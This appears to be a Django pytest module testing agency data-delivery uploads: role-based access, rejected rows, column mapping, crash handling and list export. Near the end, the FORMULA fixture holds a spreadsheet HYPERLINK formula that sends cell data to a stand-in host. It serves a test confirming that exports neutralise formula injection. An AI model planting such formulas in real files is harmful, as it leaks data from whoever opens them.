"""Upload pages per source, for the roles allowed to deliver it; results, rejected rows, mappings."""

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from missimo.audit.models import AuditAction, AuditEvent
from missimo.imports.models import ColumnMapping, Import, ImportStatus, SourceSnapshot

pytestmark = pytest.mark.django_db(databases="__all__")


def _upload(client, source, name, content, django_capture_on_commit_callbacks):
    """Upload as the browser does; the background task runs when the upload's transaction commits."""
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/lieferungen/neu/{source}/", {"file": SimpleUploadedFile(name, content)})
    assert response.status_code == 302, response.text
    return client.get(response["Location"])


def test_the_familienkasse_may_deliver_child_benefit_but_not_the_population_register(client, fabian):
    client.force_login(fabian)
    assert client.get("/lieferungen/neu/kindergeld/").status_code == 200
    assert client.get("/lieferungen/neu/melderegister/").status_code == 404


def test_the_coordination_office_may_deliver_every_source(client, kim):
    client.force_login(kim)
    for source in ("melderegister", "kindergeld", "schule", "jobcenter", "seu", "objekte"):
        assert client.get(f"/lieferungen/neu/{source}/").status_code == 200


def test_a_role_without_deliveries_does_not_see_the_deliveries_page(client, dana):
    client.force_login(dana)
    assert client.get("/lieferungen/").status_code == 404
    assert "Datenlieferungen" not in client.get("/").text


def test_an_uploaded_file_is_imported_and_its_record_shown(
    client, kim, small_city, django_capture_on_commit_callbacks
):
    client.force_login(kim)
    content = (small_city / "seu.csv").read_bytes()
    page = _upload(client, "seu", "seu_2026.csv", content, django_capture_on_commit_callbacks)
    delivery = Import.objects.get()
    assert delivery.status == ImportStatus.TAKEN
    assert delivery.uploaded_by == kim and delivery.original_filename == "seu_2026.csv"
    assert delivery.size_bytes == len(content) and len(delivery.sha256) == 64
    assert SourceSnapshot.objects.get(source="seu").source_import == delivery
    assert "übernommen" in page.text and "UTF-8" in page.text and delivery.sha256 in page.text


def test_rejected_rows_are_listed_and_downloadable_by_the_delivering_agency_only(
    client, fabian, make_user, small_city, django_capture_on_commit_callbacks
):
    from missimo.accounts.models import AgencyKind
    from missimo.accounts.policy import Role

    lines = (small_city / "kindergeld.csv").read_text(encoding="utf-8").splitlines()
    bad = lines[1].replace(lines[1].split(";")[0], "KAPUTT", 1)
    content = "\n".join([lines[0], lines[2], bad]).encode()
    client.force_login(fabian)
    page = _upload(client, "kindergeld", "kg.csv", content, django_capture_on_commit_callbacks)
    delivery = Import.objects.get()
    assert (delivery.accepted_count, delivery.rejected_count) == (1, 1)
    assert "KAPUTT" in page.text
    download = client.get(f"/lieferungen/{delivery.pk}/abgelehnte-zeilen.csv")
    assert download.status_code == 200
    assert b"KAPUTT" in b"".join(download.streaming_content)
    assert AuditEvent.objects.filter(action=AuditAction.EXPORT, object_type="import_rejected_rows").exists()

    other = make_user("franzi", Role.FAMILIENKASSE, "Familienkasse Ost", AgencyKind.FAMILIENKASSE)
    client.force_login(other)
    assert client.get(f"/lieferungen/{delivery.pk}/abgelehnte-zeilen.csv").status_code == 404
    assert "KAPUTT" not in client.get(f"/lieferungen/{delivery.pk}/").text


def test_another_agencys_delivery_is_not_found(
    client, fabian, make_user, small_city, django_capture_on_commit_callbacks
):
    from missimo.accounts.models import AgencyKind
    from missimo.accounts.policy import Role

    client.force_login(fabian)
    _upload(
        client,
        "kindergeld",
        "kg.csv",
        (small_city / "kindergeld.csv").read_bytes(),
        django_capture_on_commit_callbacks,
    )
    delivery = Import.objects.get()
    jobcenter = make_user("jonas", Role.JOBCENTER, "Jobcenter", AgencyKind.JOBCENTER)
    client.force_login(jobcenter)
    assert client.get(f"/lieferungen/{delivery.pk}/").status_code == 404


def test_a_variant_layout_is_mapped_once_and_reused_for_the_next_delivery(
    client, kim, small_city, django_capture_on_commit_callbacks
):
    variant = (
        (small_city / "objekte.csv").read_text(encoding="utf-8").replace("Objekt_ID;", "Gebaeude-Nr;", 1)
    )
    client.force_login(kim)
    _upload(client, "objekte", "variante.csv", variant.encode(), django_capture_on_commit_callbacks)
    refused = Import.objects.get()
    assert refused.status == ImportStatus.REFUSED
    form = client.get(f"/lieferungen/{refused.pk}/spaltenzuordnung/")
    assert "Gebaeude-Nr" in form.text
    columns = variant.splitlines()[0].split(";")
    data = {f"col_{i}": (name if name != "Gebaeude-Nr" else "Objekt_ID") for i, name in enumerate(columns)}
    with django_capture_on_commit_callbacks(execute=True):
        client.post(f"/lieferungen/{refused.pk}/spaltenzuordnung/", data)
    assert Import.objects.latest("id").status == ImportStatus.TAKEN
    assert ColumnMapping.objects.get(source="objekte").mapping["Gebaeude-Nr"] == "Objekt_ID"

    changed = variant.replace("\n", "\n", 1) + ""  # next delivery: same layout, different content
    changed = "\n".join(changed.splitlines()[:-1]) + "\n"
    _upload(client, "objekte", "naechste.csv", changed.encode(), django_capture_on_commit_callbacks)
    assert Import.objects.latest("id").status == ImportStatus.TAKEN


def test_the_mapping_form_insists_on_every_required_field(
    client, kim, small_city, django_capture_on_commit_callbacks
):
    variant = (
        (small_city / "objekte.csv").read_text(encoding="utf-8").replace("Objekt_ID;", "Gebaeude-Nr;", 1)
    )
    client.force_login(kim)
    _upload(client, "objekte", "variante.csv", variant.encode(), django_capture_on_commit_callbacks)
    refused = Import.objects.get()
    response = client.post(f"/lieferungen/{refused.pk}/spaltenzuordnung/", {"col_0": ""})
    assert "Pflichtfelder sind keiner Spalte zugeordnet" in response.text


def test_the_status_fragment_for_the_progress_bar_is_served_to_htmx(
    client, kim, small_city, django_capture_on_commit_callbacks
):
    client.force_login(kim)
    _upload(
        client, "seu", "seu.csv", (small_city / "seu.csv").read_bytes(), django_capture_on_commit_callbacks
    )
    fragment = client.get(f"/lieferungen/{Import.objects.get().pk}/", HTTP_HX_REQUEST="true")
    assert fragment.text.lstrip().startswith('<div id="lieferung-status"')


def test_an_import_crashing_in_the_middle_keeps_the_previous_snapshot(kim, small_city, monkeypatch):
    from missimo import engine
    from missimo.imports import services

    with open(small_city / "seu.csv", "rb") as stream:
        first = services.store_delivery("seu", stream, "seu.csv", user=kim)
    services.process_delivery(first.pk)
    changed = (small_city / "seu.csv").read_bytes() + b"\n"
    import io

    second = services.store_delivery("seu", io.BytesIO(changed), "seu2.csv", user=kim)

    def crash(*args, **kwargs):
        raise OSError("disk full")

    monkeypatch.setattr(engine, "write_snapshot", crash)  # what the import calls
    result = services.process_delivery(second.pk)
    assert result.status == ImportStatus.FAILED
    assert "bisherige Datenstand gilt weiter" in result.message
    assert SourceSnapshot.objects.get(source="seu").source_import_id == first.pk


def test_an_oversized_upload_is_refused_with_a_german_message(client, kim, settings):
    settings.UPLOAD_MAX_BYTES = 10
    client.force_login(kim)
    response = client.post("/lieferungen/neu/seu/", {"file": SimpleUploadedFile("x.csv", b"0123456789ABC")})
    assert "größer als die zulässigen" in response.text
    assert not Import.objects.exists()


# --- export of the list -----------------------------------------------------------------------

FORMULA = '=HYPERLINK("https://example.invalid/?d="&A1;"Klick")'


def _export(client, fmt):
    import csv
    import io

    import openpyxl

    response = client.get(f"/lieferungen/export.{fmt}")
    assert response.status_code == 200
    if fmt == "csv":
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_the_delivery_export_has_the_deliveries_the_page_shows_for_the_own_sources(client, kim, fabian):
    for source, name in (("kindergeld", FORMULA), ("melderegister", "mr.csv"), ("kindergeld", "kg.csv")):
        Import.objects.create(source=source, original_filename=name, sha256="0" * 64, accepted_count=3)
    client.force_login(fabian)
    page = client.get("/lieferungen/")
    shown = [d.pk for d in page.context["deliveries"]]
    assert "/lieferungen/export.xlsx" in page.text
    rows = _export(client, "csv")
    assert rows[0] == ["Nr.", "Quelle", "Datei", "geliefert", "Status", "übernommen", "abgelehnt"]
    assert [int(row[0]) for row in rows[1:]] == shown and len(shown) == 2
    assert [row[2] for row in rows[1:]] == ["kg.csv", "'" + FORMULA]
    xlsx = _export(client, "xlsx")
    assert [row[0] for row in xlsx[1:]] == shown and xlsx[2][2] == "'" + FORMULA
    client.force_login(kim)
    assert len(_export(client, "csv")) == 4
    assert client.get("/lieferungen/export.html").status_code == 404


def test_a_role_without_deliveries_gets_no_delivery_export(client, dana):
    client.force_login(dana)
    assert client.get("/lieferungen/export.csv").status_code == 404
